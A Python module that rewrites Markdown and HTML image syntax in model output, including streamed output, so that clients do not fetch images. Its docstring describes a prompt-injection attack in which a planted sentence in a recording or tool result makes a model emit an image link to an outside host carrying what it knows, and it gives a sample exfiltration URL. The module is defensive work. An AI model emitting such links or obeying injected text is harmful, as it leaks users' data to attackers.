"""Pictures in what a model writes: a client would fetch them, from whatever address and with whatever stands in it.

Who can make a model write `![](https://elsewhere/?what=it+knows)`, by a sentence in a recording or in what a tool
answers, is told what it knows as soon as the answer is shown. So no answer has any: they become links, which nobody
follows unasked.
"""

import re

_PICTURE = re.compile(r"!(?=\[)|<(?=img\b|image\b|picture\b|svg\b)", re.IGNORECASE)
_BEGUN = re.compile(r"(?:!|<[a-z]{0,7})$", re.IGNORECASE)
"""What may still become one, at the end of the words so far."""


def without_pictures(text: str) -> str:
    """The same text, where pictures of Markdown are links and those of HTML are text."""
    return _PICTURE.sub(lambda found: f"{found[0]} ", text)


class Unpictured:
    """The same for a text that comes in pieces."""

    def __init__(self) -> None:
        self._held = ""

    def feed(self, piece: str) -> str:
        """The words of a piece that certainly begin no picture."""
        text = self._held + piece
        begun = _BEGUN.search(text)
        at = begun.start() if begun else len(text)
        self._held = text[at:]
        return without_pictures(text[:at])

    def rest(self) -> str:
        """What was held back, when no more pieces come."""
        held, self._held = self._held, ""
        return without_pictures(held)
